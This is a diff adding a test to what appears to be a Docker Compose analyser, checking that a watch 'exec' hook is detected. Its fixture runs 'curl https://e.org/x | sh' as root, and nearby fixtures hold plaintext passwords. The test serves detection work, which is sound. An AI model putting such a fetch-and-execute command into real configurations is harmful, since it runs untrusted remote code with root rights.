@@ -700,6 +700,24 @@ describe('hooks', () => {
     ]);
     expect(sources?.['/hooks/1']).toMatchObject({ line: 9 });
   });
+  it('are what Compose runs when files change that it watches', async () => {
+    const { facts, sources } = await service(`services:
+  web:
+    image: web:1
+    develop:
+      watch:
+        - path: ./src
+          action: sync+exec
+          target: /src
+          exec:
+            command: [sh, -c, curl https://e.org/x | sh]
+            user: root
+`);
+    expect(facts['hooks']).toMatchObject([
+      { when: 'after-start', program: 'sh', command: ['sh', '-c', 'curl https://e.org/x | sh'] },
+    ]);
+    expect(sources?.['/hooks/0']).toMatchObject({ line: 10 });
+  });
   it.each([
     ['its command', 'command: mysql -psecretpw123', 'login-option'],
     ['its words', 'command: [curl, -u, "me:secretpw123"]', 'login-option'],
